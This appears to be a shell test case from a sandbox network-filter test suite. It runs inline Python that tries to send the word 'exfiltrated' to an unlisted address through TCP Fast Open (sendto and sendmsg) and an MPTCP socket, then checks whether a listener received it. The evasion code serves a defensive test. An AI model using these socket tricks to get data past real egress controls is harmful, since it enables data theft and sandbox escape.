#!/bin/sh
# net.filtered, hazard 58: MSG_FASTOPEN, MPTCP and sendmmsg to an address that no rule names.
# run: --net filtered --allow allowed.test
# plant: namespaces.net
act() {
	/usr/bin/python3 -c '
import socket
FASTOPEN, MPTCP = 0x20000000, 262
try:
    socket.socket(socket.AF_INET, socket.SOCK_STREAM).sendto(b"exfiltrated\n", FASTOPEN, ("20.2.2.2", 80))
except OSError:
    pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_STREAM).sendmsg([b"exfiltrated\n"], [], FASTOPEN, ("20.2.2.2", 81))
except OSError:
    pass
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, MPTCP)
    s.connect(("20.2.2.2", 8080))
    s.send(b"exfiltrated\n")
except OSError:
    pass'
}

happened() {
	heard exfiltrated || heard 20.2.2.2
}

. "$VERIFY/internet.sh"
